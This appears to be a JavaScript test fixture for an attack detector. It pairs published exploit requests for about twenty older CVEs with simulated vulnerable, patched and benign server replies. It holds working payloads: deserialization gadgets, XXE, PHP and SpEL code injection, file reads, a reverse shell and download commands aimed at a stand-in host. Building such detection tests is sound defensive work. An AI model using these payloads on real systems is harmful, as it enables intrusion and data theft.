/** Holes of 2014 to 2019 that the public collections of exploits carry and the list of 2019 leaves out: requests as published, answers of the vulnerable, the repaired and an innocent server. */
import { createHash } from 'node:crypto';
import { blocked, html, json, notFound, page, text } from './answers.mjs';
import { ID, form, of, post, upload } from './requests.mjs';

const enc = encodeURIComponent;
const at8080 = { port: 8080 };
const article = (words) => form('/cms/save', `title=note&text=${enc(words)}`);
const phpinfo = () => html('<!DOCTYPE html><html><head><title>phpinfo()</title></head><body><h1 class="p">PHP Version 5.3.29</h1></body></html>');

const jk = of('web/jackson-typed-object', at8080);
const translet = { param: ['com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', { transletBytecodes: ['yv66vgAAADMAKAoABAAU'], transletName: 'a.b', outputProperties: {} }] };
const context = ['org.springframework.context.support.FileSystemXmlApplicationContext', 'http://203.0.113.66/spel.xml'];
const springError = (message) => () => json({ timestamp: 1571385600000, status: 500, error: 'Internal Server Error', message, path: '/exploit' }, 500);
const jackson = [
  jk.hit('getter-called', 'succeeded', 'CVE-2017-7525, the error behind the getter that loads the class', springError('(was java.lang.NullPointerException) (through reference chain: com.example.Input["param"]->com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl["outputProperties"])'), [post('/exploit', JSON.stringify(translet))]),
  jk.hit('context-loaded', 'succeeded', 'CVE-2017-17485, the XML was fetched', springError('Can not construct instance of org.springframework.context.support.FileSystemXmlApplicationContext, problem: IOException parsing XML document from URL [http://203.0.113.66/spel.xml]; nested exception is java.net.ConnectException: Connection refused'), [post('/exploit', JSON.stringify({ param: context }, null, 2))]),
];

const sc = of('java/solr-xmlparser', { port: 8983 });
const xmlparser = (doc) => [`/solr/demo/select?q=${enc(`{!xmlparser v='${doc}'}`)}&wt=json`];
const solr = [
  sc.hit('xxe-file', 'succeeded', 'XML parser of queries; the file in the error', () => json({ responseHeader: { status: 400, QTime: 6 }, error: { msg: '/root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin (No such file or directory)', code: 400 } }, 400), [xmlparser('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://203.0.113.66/e.dtd"> %x;]><a></a>')]),
  sc.hit('xxe-fetch', 'succeeded', 'XML parser of queries; the server says that it connected', () => json({ responseHeader: { status: 500 }, error: { msg: 'Connection refused (Connection refused)', trace: 'java.net.ConnectException: Connection refused (Connection refused)\n\tat java.net.PlainSocketImpl.socketConnect(Native Method)\n', code: 500 } }, 500), [xmlparser('<!DOCTYPE a SYSTEM "http://203.0.113.66:8000/"><a></a>')]),
  sc.hit('repaired', 'attempted', 'repaired: entities are refused', () => json({ error: { msg: 'org.apache.solr.search.SyntaxError: External Entity resolving unsupported:  publicId="null" systemId="http://203.0.113.66:8000/"', code: 400 } }, 400), [xmlparser('<!DOCTYPE a SYSTEM "http://203.0.113.66:8000/"><a></a>')]),
  sc.miss('query', 'a query in XML without a document type, and an article', () => json({ responseHeader: { status: 0 } }), [xmlparser('<BooleanQuery fieldName="t"><Clause occurs="must"><TermQuery>a</TermQuery></Clause></BooleanQuery>'), article('{!xmlparser v=... } and <!DOCTYPE')]),
];

const dl = of('php/discuz-language-cookie');
const discuz = () => html('<!DOCTYPE html><html><head><title>Discuz! Board</title></head><body>Powered by Discuz! X3.4</body></html>');
const cookie = (path, value) => [path, '-H', `Cookie: ${value}`];
const discuzMl = [
  dl.hit('sum', 'succeeded', 'the MD5 stands before the page', () => html(`${createHash('md5').update('831204467').digest('hex')}<!DOCTYPE html><html><head><title>Discuz! Board</title></head></html>`), [cookie('/forum.php', "kFq3_2132_language=sc'.print(md5(831204467)).'")]),
  dl.hit('phpinfo', 'succeeded', 'the page of phpinfo; the cookie encoded', phpinfo, [cookie('/portal.php', 'kFq3_2132_saltkey=a1B2c3D4; kFq3_2132_language=%27.phpinfo().%27')]),
  dl.hit('repaired', 'attempted', 'repaired: the board\'s first page', discuz, [cookie('/forum.php', "kFq3_2132_language=en'.system('id').'")]),
  dl.miss('languages', 'languages of the board and of another site', discuz, [cookie('/forum.php', 'kFq3_2132_language=sc; kFq3_2132_lastvisit=1571385600'), cookie('/', "site_language=zh-CN; motto=it's.fine")]),
];
const dg = of('php/discuz-globals-cookie');
const discuzGlobals = [
  dg.hit('phpinfo', 'succeeded', 'the page of phpinfo', phpinfo, [cookie('/viewthread.php?tid=10&extra=page%3D1', 'GLOBALS[_DCACHE][smilies][searcharray]=/.*/eui; GLOBALS[_DCACHE][smilies][replacearray]=phpinfo();')]),
  dg.hit('repaired', 'attempted', 'repaired: the thread; the cookie encoded', discuz, [cookie('/viewthread.php?tid=10', 'GLOBALS%5B_DCACHE%5D%5Bsmilies%5D%5Bsearcharray%5D=/.*/eui; GLOBALS%5B_DCACHE%5D%5Bsmilies%5D%5Breplacearray%5D=print_r(md5(203118822));')]),
  dg.miss('cookies', 'cookies with brackets', discuz, [cookie('/viewthread.php?tid=10', 'ECS[visit_times]=1; cart[3]=2; NOTE=GLOBALS')]),
];

const tc = of('php/thinkcmf-template');
const thinkcmf = [
  tc.hit('template-file', 'succeeded', 'README.md as the template', () => html('# ThinkCMF\n## README\nThinkCMF X2.2'), [['/?a=display&templateFile=README.md']]),
  tc.hit('output', 'succeeded', 'PHP in content; output of id', () => text(ID), [['/index.php?g=g&m=Door&a=fetch&templateFile=public/index&prefix=%27%27&content=%3Cphp%3Esystem(%27id%27)%3C/php%3E']]),
  tc.hit('write', 'attempted', 'PHP in content that writes a file; an empty 200', () => html(''), [['/index.php?a=fetch&content=%3C?php+file_put_contents(%22a.php%22,%22%3C?php+echo+1%3B%22)%3B']]),
  tc.hit('absent', 'attempted', '404', notFound, [['/?a=display&templateFile=../data/conf/db.php']]),
  tc.miss('pages', 'actions named fetch and display, an editor\'s content', () => page('内容'), [['/index.php?g=portal&m=list&a=index&id=3'], ['/api.php?a=fetch&content=hello+world'], ['/show?a=display&template=blue'], form('/admin/save', `a=post_edit&content=${enc('<p>正文 a=fetch&content=<?php</p>')}`)]),
];

const es = of('database/elasticsearch-snapshot', { port: 9200 });
const put = (path, body) => [path, '-X', 'PUT', '-H', 'Content-Type: application/json', '--data-binary', JSON.stringify(body)];
const repository = (name, location) => put(`/_snapshot/${name}`, { type: 'fs', settings: { location, compress: false } });
const acknowledged = () => json({ acknowledged: true });
const elastic = [
  es.hit('read', 'succeeded', 'two repositories, then the file as numbers in the error', (q) => (q.method === 'PUT' ? acknowledged() : json({ error: `ElasticsearchParseException[Failed to derive xcontent from (offset=0, length=1178): [${[...Buffer.from('root:x:0:0:root:/root:/bin/bash\n')].join(', ')}]]`, status: 400 }, 400)), [repository('test', '/usr/share/elasticsearch/repo/test'), repository('test2', '/usr/share/elasticsearch/repo/test/snapshot-backdata'), ['/_snapshot/test/backdata%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd']], { count: 1 }),
  es.hit('repaired', 'attempted', 'repaired: no such snapshot', () => json({ error: 'SnapshotMissingException[[test:backdata/../../etc/passwd] is missing]', status: 404 }, 404), [['/_snapshot/test/backdata%2f..%2f..%2fconfig%2felasticsearch.yml']]),
  es.hit('web-root', 'succeeded', 'a repository in the web root, acknowledged', acknowledged, [repository('yz.jsp', '/usr/local/tomcat/webapps/wwwroot/'), put('/_snapshot/yz.jsp/yz.jsp', { indices: 'yz.jsp', ignore_unavailable: 'true', include_global_state: false })]),
  es.hit('outside', 'attempted', 'repaired: the place is not in path.repo', () => json({ error: { type: 'repository_exception', reason: "[x] location [/var/www/html] doesn't match any of the locations specified by path.repo" }, status: 500 }, 500), [repository('x', '/var/www/html')]),
  es.miss('backup', 'the nightly snapshot, and its state', acknowledged, [repository('nightly', '/srv/backup/elastic'), put('/_snapshot/nightly/2019.10.18', { indices: 'orders-*', include_global_state: false }), ['/_snapshot/nightly/2019.10.18'], ['/_snapshot/nightly/_all']]),
];

const wm = of('product/webmin-password-change', { port: 10000 });
const failed = (more) => () => html(`<html><body><h3>Failed to change password : The current password is incorrect${more}</h3></body></html>`);
const change = (old, more = 'expired=2') => form('/password_change.cgi', `user=rootxx&pam=&${more}&old=${old}&new1=test2&new2=test2`, '-H', 'Cookie: redirect=1; testing=1; sid=x; sessiontest=1', '-H', 'Referer: http://10.42.1.10:10000/session_login.cgi');
const webmin = [
  wm.hit('id', 'succeeded', 'output of id behind the message', failed(ID), [change('test|id')]),
  wm.hit('sum', 'succeeded', 'the sum behind the message', failed('1734260041'), [change('expr%20841220033%20%2b%20893040008')]),
  wm.hit('repaired', 'attempted', 'repaired: the message alone', failed(''), [change('test%7Cwget+http%3A%2F%2F203.0.113.66%2Fs')]),
  wm.hit('expired', 'attempted', 'the command in expired (1.890); refused', () => [403, {}, 'Error - Missing referer'], [change('a', 'expired=echo%20vulnerable')]),
  wm.miss('change', 'users change expired passwords', failed(''), [change('Echo-Id.2019!'), change('my%20old%20one%3F', 'expired=1'), change('cat%26dog')]),
];

const sw = of('java/spring-stomp-selector', at8080);
const SPEL = "T(java.lang.Runtime).getRuntime().exec('touch /tmp/s')";
const frame = (command, headers, body = '') => JSON.stringify([`${command}\n${Object.entries(headers).map(([k, v]) => `${k}:${v}`).join('\n')}\n\n${body}\u0000`]);
const xhr = (data) => post('/gs-guide-websocket/214/ab3kd9fx/xhr_send', data, 'text/plain;charset=UTF-8');
const stomp = [
  sw.hit('sockjs', 'attempted', 'expression as the selector of a subscription by SockJS; 204, as a repaired release answers too', () => [204, {}, ''], [xhr(frame('CONNECT', { 'accept-version': '1.1,1.0', 'heart-beat': '10000,10000' })), xhr(frame('SUBSCRIBE', { selector: SPEL, id: 'sub-0', destination: '/topic/greetings' })), xhr(frame('SEND', { 'content-length': 14, destination: '/app/hello' }, '{"name":"a"}'))]),
  sw.hit('absent', 'attempted', '404', notFound, [xhr(frame('SUBSCRIBE', { selector: 'new java.lang.ProcessBuilder("id").start()', id: 'sub-0', destination: '/topic/x' }))]),
  sw.miss('chat', 'subscriptions with a plain selector, and a message about the hole', () => [204, {}, ''], [xhr(frame('SUBSCRIBE', { selector: "headers['room'] == 'a1'", id: 'sub-0', destination: '/topic/greetings' })), xhr(frame('SEND', { destination: '/app/chat' }, JSON.stringify({ text: `selector:${SPEL}` })))]),
];

const spel = of('java/spring-spel-injection', at8080);
const webFlow = [
  spel.hit('web-flow', 'succeeded', 'CVE-2017-4971, the error of the expression engine', () => [500, { 'Content-Type': 'text/html' }, "<div>EL1010E: Property or field '_' cannot be set on object of type 'java.lang.UNIXProcess'</div>"], [form('/hotels/booking?execution=e1s2', `_csrf=8d2a&_eventId_confirm=&_(${enc('new java.lang.ProcessBuilder("bash","-c","touch /tmp/s")).start()')}=x`)]),
];

const jc = of('java/jenkins-cli-deserialization', at8080);
const CAPACITY = '<===[JENKINS REMOTING CAPACITY]===>rO0ABXNyABpodWRzb24ucmVtb3RpbmcuQ2FwYWJpbGl0eQAAAAAAAAABAgABSgAEbWFza3hwAAAAAAAAAP4=';
const stream = (...names) => Buffer.concat([Buffer.from(CAPACITY), Buffer.from('00000000', 'hex'), Buffer.from('aced00057372', 'hex'), ...names.flatMap((n) => [Buffer.from([0, n.length]), Buffer.from(n), Buffer.from('3a1f0c22917be4d502000149000473697a65787073 72'.replace(' ', ''), 'hex')])]);
const cli = (...names) => ['/cli', '-X', 'POST', '-H', 'Side: upload', '-H', 'Session: 6b1c3f0e-52a2-4f43-8b2c-3d9c1f9b2a77', '-H', 'Content-Type: application/octet-stream', '--data-binary', stream(...names)];
const jenkins = [
  jc.hit('signed-object', 'attempted', 'CVE-2017-1000353: a list with a signed object; 200', () => [200, {}, ''], [cli('java.util.concurrent.CopyOnWriteArraySet', 'java.util.concurrent.ConcurrentSkipListSet', 'java.security.SignedObject', 'org.apache.commons.collections.map.ReferenceMap')]),
  jc.hit('absent', 'attempted', '404', notFound, [cli('org.apache.commons.collections.functors.ChainedTransformer')]),
  jc.miss('command', 'the old command line client', () => [200, {}, ''], [cli('hudson.remoting.UserRequest', 'hudson.remoting.Request')]),
];

const im = of('web/imagemagick-delegate');
const mvg = (url) => `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${url})'\npop graphic-context\n`;
const ps = (run) => `%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%${run}) currentdevice putdeviceprops\n`;
const magick = [
  im.hit('mvg', 'succeeded', 'CVE-2016-3714, output of id', () => text(`uploaded ${ID}`), [upload('/', '1.gif', mvg('https://127.0.0.0/oops.jpg"|id "'), 'file_upload')]),
  im.hit('pipe', 'attempted', 'CVE-2018-16509 in PostScript; 200', () => text('saved'), [upload('/upload.php', 'a.jpg', ps('id > /tmp/s'), 'file_upload')]),
  im.hit('blocked', 'attempted', 'refused by a firewall', blocked, [upload('/', '2.png', mvg('https://127.0.0.0/x.jpg?`touch /tmp/s`'))]),
  im.miss('drawings', 'drawings and PostScript', () => text('saved'), [upload('/', 'a.mvg', mvg('https://example.com/a.jpg')), upload('/', 'b.ps', '%!PS\n/OutputFile (page.pdf)\nshowpage\n'), article(mvg('https://127.0.0.0/oops.jpg"|id "'))]),
];

const ec = of('php/ecshop-referer');
const HASH = '45ea207d7a2b68c49582d2d22adf953a';
const referer = (hash) => `Referer: ${hash}ads|a:2:{s:3:"num";s:107:"*/SELECT 1,0x2d312720554e494f4e2f2a,2,4,5,6,7,8,0x7b24617364275d3b706870696e666f0928293b2f2f7d787878,10-- -";s:2:"id";s:11:"-1' UNION/*";}${hash}`;
const ecshop = [
  ec.hit('phpinfo', 'succeeded', 'the page of phpinfo', phpinfo, [['/user.php?act=login', '-H', referer(HASH)]]),
  ec.hit('repaired', 'attempted', 'repaired: the login page', () => page('用户登录'), [['/user.php?act=login', '-H', referer('554fcae493e564ee0dc75bdf2ebf94ca')]]),
  ec.miss('login', 'login from another page', () => page('用户登录'), [['/user.php?act=login', '-H', 'Referer: http://10.42.1.10/flow.php?step=cart&ads=a:2']]),
];

const co = of('cloud/consul-service-check', { port: 8500 });
const service = (check) => put('/v1/agent/service/register', { ID: 'a', Name: 'a', Address: '127.0.0.1', Port: 80, check });
const consul = [
  co.hit('registered', 'succeeded', 'a service whose check is a shell command; 200', () => [200, {}, ''], [service({ args: ['sh', '-c', 'curl http://203.0.113.66/s'], interval: '10s', timeout: '86400s' })]),
  co.hit('script', 'succeeded', 'the older form; 200', () => [200, {}, ''], [service({ script: '/bin/sh -i >/dev/tcp/203.0.113.66/4444', interval: '10s' })]),
  co.hit('off', 'attempted', 'checks by script are off', () => [400, {}, 'Invalid check: Scripts are disabled on this agent; to enable, configure \'enable_script_checks\' or \'enable_local_script_checks\' to true'], [service({ args: ['bash', '-c', 'id'], interval: '10s' })]),
  co.miss('services', 'services with checks by HTTP and by a plugin', () => [200, {}, ''], [service({ http: 'http://127.0.0.1/health', interval: '10s' }), service({ args: ['/usr/lib/nagios/plugins/check_disk', '-w', '10%'], interval: '60s' })]),
];

const ga = of('product/goahead-environment');
const goahead = [
  ga.hit('preload', 'attempted', 'CVE-2017-17562: LD_PRELOAD with the body as the library; 200', () => html('hello'), [['/cgi-bin/index?LD_PRELOAD=/proc/self/fd/0', '-X', 'POST', '-H', 'Content-Type: application/octet-stream', '--data-binary', Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(64)])]]),
  ga.hit('output', 'succeeded', 'output of id', () => text(ID), [['/cgi-bin/index?LD_PRELOAD=/proc/self/fd/0', '-X', 'POST', '-H', 'Content-Type: application/octet-stream', '--data-binary', Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(64)])]]),
  ga.miss('search', 'a search for the word', () => page('结果'), [['/search?q=LD_PRELOAD=/usr/lib/a.so'], ['/cgi-bin/index?name=LD_PRELOAD']]),
];

const ph = of('php/php-cgi-argument');
const cgi = (query, code) => [`/index.php?${query}`, '-X', 'POST', '-H', 'Content-Type: application/x-www-form-urlencoded', '--data-binary', code];
const phpCgi = [
  ph.hit('output', 'succeeded', 'CVE-2012-1823, output of id', () => text(ID), [cgi('-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input', '<?php echo shell_exec("id"); ?>')]),
  ph.hit('source', 'succeeded', '-s, the coloured source', () => html('<code><span style="color: #000000"><span style="color: #0000BB">&lt;?php&nbsp;</span></span></code>'), [['/index.php?-s']]),
  ph.hit('repaired', 'attempted', 'repaired: the page; the soft hyphen of CVE-2024-4577', () => page('Hello'), [cgi('%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', '<?php phpinfo(); ?>')]),
  ph.miss('queries', 'queries with hyphens', () => page('Hello'), [['/index.php?-1'], ['/index.php?q=-d+allow'], ['/search?-sort=name'], ['/list.php?-s=3']]),
];

const ty = of('php/typecho-config');
const typechoChain = Buffer.from('a:2:{s:7:"adapter";O:12:"Typecho_Feed":2:{s:19:"\0Typecho_Feed\0_type";s:7:"RSS 2.0";}s:6:"prefix";s:7:"typecho";}', 'latin1').toString('base64');
const typecho = [
  ty.hit('sum', 'succeeded', 'the MD5 of the chain', () => html('e165421110ba03099a1c0393373c5b43'), [form('/install.php?finish=1', `__typecho_config=${enc(typechoChain)}`, '-H', 'Referer: http://10.42.1.10/install.php')]),
  ty.hit('cookie', 'attempted', 'in the cookie; repaired', () => [302, { Location: '/' }, ''], [['/install.php?finish=a', '-H', `Cookie: __typecho_config=${typechoChain}`, '-H', 'Referer: http://10.42.1.10/install.php']]),
  ty.miss('install', 'an installation', () => page('Typecho'), [['/install.php?finish=1&user=admin', '-H', `Cookie: __typecho_config=${Buffer.from('a:2:{s:7:"adapter";s:5:"Mysql";s:6:"prefix";s:8:"typecho_";}').toString('base64')}`]]),
];


const ji = of('java/jira-contact-template', at8080);
const velocity = "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('whoami').toString()";
const contact = (subject) => form('/secure/ContactAdministrators.jspa', `from=a%40example.com&subject=${enc(subject)}&details=hello&atl_token=B1NQ&Send=Send`);
const jira = [
  ji.hit('sent', 'attempted', 'CVE-2019-11581: the message is sent, its template runs later', () => [302, { Location: '/secure/ContactAdministrators.jspa', 'Content-Length': '0' }, ''], [contact(velocity)]),
  ji.hit('off', 'attempted', 'the form is off', () => html('<p>Your Jira administrator has not yet configured this contact form.</p>'), [contact(velocity)]),
  ji.miss('message', 'a user writes to the administrators', () => [302, { Location: '/', 'Content-Length': '0' }, ''], [contact('License costs $500, class A')]),
];

const vb = of('php/vbulletin-widget');
const widget = (code) => form('/', `routestring=ajax/render/widget_php&widgetConfig%5bcode%5d=${enc(code)}`);
const vbulletin = [
  vb.hit('output', 'succeeded', 'CVE-2019-16759, output of id', () => text(ID), [widget("echo shell_exec('id');exit;")]),
  vb.hit('phpinfo', 'succeeded', 'the page of phpinfo; in the URL', phpinfo, [['/index.php?routestring=ajax/render/widget_php&widgetConfig[code]=phpinfo();']]),
  vb.hit('repaired', 'attempted', 'repaired: no such template', () => html('{"template":"","css_links":[]}'), [widget('echo md5(8);')]),
  vb.miss('widget', 'another widget is drawn', () => page('Forum'), [form('/ajax/render/widget_search', 'widgetConfig%5btitle%5d=Search&isAjaxTemplateRender=true')]),
];

const gl = of('php/gitlist-search');
const gitlist = [
  gl.hit('output', 'succeeded', 'CVE-2018-1000533, output of id', () => html(`<pre>${ID}</pre>`), [form('/project/tree/a/search', 'query=--open-files-in-pager=id;')]),
  gl.hit('repaired', 'attempted', 'repaired: no results', () => page('No results found'), [form('/project/tree/a/search', 'query=--open-files-in-pager%3Dtouch%20/tmp/s;')]),
  gl.miss('search', 'searches with hyphens', () => page('results'), [form('/project/tree/a/search', 'query=--help'), form('/project/tree/a/search', 'query=open-files-in-pager')]),
];

export default [...jackson, ...solr, ...discuzMl, ...discuzGlobals, ...thinkcmf, ...elastic, ...webmin, ...stomp, ...webFlow, ...jenkins, ...magick, ...ecshop, ...consul, ...goahead, ...phpCgi, ...typecho, ...jira, ...vbulletin, ...gitlist];
